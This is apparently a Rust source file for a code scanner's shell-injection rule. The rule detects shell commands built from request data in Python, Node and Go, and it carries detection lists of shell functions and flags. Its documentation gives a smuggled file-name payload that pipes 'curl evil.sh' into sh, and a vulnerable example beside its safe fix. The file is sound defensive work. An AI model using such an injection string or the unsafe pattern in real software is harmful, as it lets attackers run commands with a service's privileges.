//! Shell commands built from request data or from a function's arguments.

use crate::context::{Call, FileContext};
use crate::flow::Taint;
use crate::rule::{CodeRule, Reporter, ALL_LANGUAGES};
use pab_core::{Language, RuleDocs, RuleMeta, Severity};
use tree_sitter::Node;

pub struct ShellInjection;

static META: RuleMeta = RuleMeta {
    id: "security/shell-injection",
    aliases: &[],
    severity: Severity::Critical,
    language: Language::Python,
    default_enabled: true,
    summary: "A shell command line built from request data or function arguments is run through a shell.",
    docs: RuleDocs {
        what: "Reports commands run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`; Node's `child_process.exec`/`execSync`; Go `exec.Command(\"sh\", \"-c\", ...)`) whose command line is request data or has a function argument spliced into it. Python, JavaScript, TypeScript and Go. Constant commands, values passed through `shlex.quote` or similar, and argument lists without a shell are not reported.",
        why: "The shell reads the whole string as a program: a file name like `x; curl evil.sh | sh` runs the attacker's commands with the service's privileges, its credentials and its network access.",
        lock: "",
        bad: "def thumbnail(path):\n    subprocess.run(f\"convert {path} -resize 128x128 thumb.png\", shell=True, check=True)",
        good: "def thumbnail(path):\n    subprocess.run([\"convert\", path, \"-resize\", \"128x128\", \"thumb.png\"], check=True)",
        fix: "Run the program without a shell and pass each argument separately: `subprocess.run([prog, arg, ...])`, `execFile(prog, [arg, ...])` / `spawn(prog, [args])`, `exec.Command(prog, arg, ...)`. Put `--` before user-supplied file names so they cannot be read as options. If a shell is unavoidable, quote every value (`shlex.quote`) and validate it against an allow-list.",
    },
};

/// Python functions that always run their command through a shell, by
/// module.
const PY_SHELL_ALWAYS: &[(&str, &str)] = &[
    ("os", "system"),
    ("os", "popen"),
    ("subprocess", "getoutput"),
    ("subprocess", "getstatusoutput"),
    ("asyncio", "create_subprocess_shell"),
];

/// Python functions that use a shell when given `shell=True`.
const PY_SHELL_OPTION: &[&str] = &["run", "call", "check_call", "check_output", "Popen"];

/// Node's child_process functions that run a shell, and the names the
/// module is commonly imported as.
const NODE_SHELL: &[&str] = &["exec", "execSync"];
const NODE_MODULE_NAMES: &[&str] = &["child_process", "cp", "childProcess", "child"];

/// Shells and the flag that makes them run their next argument.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "/bin/sh", "/bin/bash"];
const SHELL_FLAGS: &[&str] = &["-c", "-lc", "-ec"];

impl CodeRule for ShellInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn languages(&self) -> &'static [Language] {
        ALL_LANGUAGES
    }

    fn required_text(&self, language: Language) -> &'static [&'static [&'static str]] {
        match language {
            Language::Python => &[&["system", "popen", "getoutput", "getstatusoutput", "shell"]],
            Language::Go => &[&["Command"]],
            _ => &[&["exec"]],
        }
    }

    fn check(&self, cx: &FileContext, out: &mut Reporter) {
        for call in cx.calls() {
            let Some(command) = shell_command(cx, call) else {
                continue;
            };
            let value = cx.value(command);
            if !value.is_injectable() {
                continue;
            }
            let origin = cx.origin_snippet(&value);
            let callee = cx.node_snippet(call.callee);
            let message = match value.injected() {
                Taint::Request => format!(
                    "shell command built from request data (`{origin}`) runs through `{callee}`: whoever sends the request can run any command"
                ),
                _ => format!(
                    "shell command with the argument `{origin}` spliced in runs through `{callee}`: a value with `;` or `$(...)` runs other commands"
                ),
            };
            out.report(
                cx,
                &META,
                command,
                message,
                "Run the program without a shell and pass the values as separate arguments (`subprocess.run([prog, arg])`, `execFile(prog, [arg])`, `exec.Command(prog, arg)`); if a shell is unavoidable, quote each value (`shlex.quote`).",
            );
        }
    }
}

/// The command-line argument of a call that runs a shell.
fn shell_command<'t>(cx: &FileContext<'t>, call: &Call<'t>) -> Option<Node<'t>> {
    let receiver = call.receiver.map(|r| cx.text(r));
    match cx.lang.language() {
        Language::Python => {
            let module = receiver.unwrap_or("");
            let always = PY_SHELL_ALWAYS.contains(&(module, call.name));
            let with_option = PY_SHELL_OPTION.contains(&call.name)
                && matches!(receiver, None | Some("subprocess"))
                && call.keyword("shell").is_some_and(|v| cx.text(v) == "True");
            (always || with_option).then(|| call.args.first().copied())?
        }
        Language::JavaScript | Language::TypeScript => {
            if !NODE_SHELL.contains(&call.name) {
                return None;
            }
            let from_child_process = match receiver {
                Some(r) => NODE_MODULE_NAMES.contains(&r),
                // A bare `exec(...)` is child_process's only where the
                // file imports it.
                None => cx.file.text.contains("child_process"),
            };
            from_child_process.then(|| call.args.first().copied())?
        }
        Language::Go => {
            if receiver != Some("exec") {
                return None;
            }
            let skip = match call.name {
                "Command" => 0,
                "CommandContext" => 1,
                _ => return None,
            };
            let args = call.args.get(skip..)?;
            let literal = |n: &Node| cx.text(*n).trim_matches(['"', '`']).to_string();
            let shell = literal(args.first()?);
            let flag = literal(args.get(1)?);
            (SHELLS.contains(&shell.as_str()) && SHELL_FLAGS.contains(&flag.as_str()))
                .then(|| args.get(2).copied())?
        }
        _ => None,
    }
}
